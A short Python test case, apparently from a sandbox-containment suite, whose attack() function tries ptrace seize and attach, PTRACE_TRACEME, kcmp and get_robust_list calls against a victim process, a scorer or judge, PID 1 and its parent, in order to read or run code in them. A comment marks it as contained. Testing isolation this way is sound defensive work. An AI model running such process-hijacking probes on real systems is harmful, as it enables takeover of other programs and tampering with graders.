# Takes hold of other processes as a debugger does, to read them and run code in them.
# The zygote and the judge belong to the same user.
# contained: passed
def attack():
    seize, attach, trace_me, no_signal = 0x4206, 16, 0, 0
    others = {TARGET["victim"], TARGET["scorer"], 1, os.getppid()} - {0, os.getpid()}
    attempts = {"me": lambda: syscall("ptrace", trace_me, 0, 0, no_signal)}
    for pid in others:
        attempts[f"seize {pid}"] = lambda pid=pid: syscall("ptrace", seize, pid, 0, 0)
        attempts[f"attach {pid}"] = lambda pid=pid: syscall("ptrace", attach, pid, 0, 0)
        attempts[f"compare {pid}"] = lambda pid=pid: syscall("kcmp", os.getpid(), pid, 0, 0, 0)
        attempts[f"locks of {pid}"] = lambda pid=pid: syscall(
            "get_robust_list", pid, bytes(8), bytes(8)
        )
    return first(attempts)
